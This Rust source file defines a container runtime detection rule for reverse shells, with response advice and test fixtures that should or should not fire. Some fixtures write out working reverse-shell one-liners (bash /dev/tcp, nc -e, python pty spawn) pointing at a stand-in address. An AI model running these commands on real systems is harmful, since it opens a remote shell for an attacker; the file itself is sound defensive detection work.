//! Reverse shell.

use crate::runtime::prelude::*;

runtime_rule! {
    /// Reverse shell
    ///
    /// The container calls out and hands over a shell: whoever answers types commands in it, past every
    /// rule about what may call in. Told by the command line, and by a shell that holds a connection to a
    /// public address itself.
    ///
    /// **Benign:** None known for command lines; `bash` reading `/dev/tcp` as a health check of another pod
    /// stays quiet, because it has no shell at its end.
    ///
    /// **Respond:** Cut the pod off (NetworkPolicy), keep it for forensics, replace its credentials, and
    /// look at what the process did since.
    "RUN-001" {
        severity: Critical,
        attack: Execution "T1059",
        on: ["exec", "flow"],
        fires: [
            r#"{exec: "bash -c 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'", by: nginx}"#,
            r#"{exec: "nc -e /bin/sh 203.0.113.9 4444"}"#,
            r#"{flow: {peer: 203.0.113.9, port: 4444}, process: "bash -i"}"#,
            r#"{exec: "python3 -c 'import socket,pty;s=socket.socket();pty.spawn(1)'", by: sh}"#,
        ],
        quiet: [
            r#"{exec: "bash -c 'exec 3<>/dev/tcp/127.0.0.1/8080'"}"#,
            r#"{flow: {peer: 10.0.0.9, port: 5432}, process: "bash -c wait"}"#,
            r#"{exec: "bash -c date"}"#,
        ],
        run: One(run),
    }
}

fn run(scene: &Scene<'_>, found: &mut Found) {
    if !scene.in_container() {
        return;
    }
    if let Some(flow) = scene.flow() {
        let by_shell = programs::is_shell(scene.program());
        let leads_out = flow.direction == Direction::Out && is_public(flow.peer);
        if by_shell && leads_out {
            found
                .say(format!(
                    "{} itself holds a connection to {}",
                    scene.who(),
                    scene.peer_words()
                ))
                .with("flow.peer", flow.peer.to_string());
        }
        return;
    }
    let line = scene.process().command_line();
    let Some(mark) = scene.command().reverse_shell() else {
        return;
    };
    // `/dev/tcp` alone also probes whether a port is open; a shell has its input and output there.
    let probes = mark == "/dev/tcp/"
        && !(line.contains("0>&") || line.contains("-i") || line.contains("0<&"));
    let only_makes_pipe = mark == "mkfifo" && !(line.contains("nc ") || line.contains("sh"));
    let only_socket = mark == "socket.socket("
        && !(line.contains("dup2") || line.contains("spawn") || line.contains("sh"));
    if probes || only_makes_pipe || only_socket {
        return;
    }
    found.say(format!("{} opens a reverse shell ({mark})", scene.who()));
}
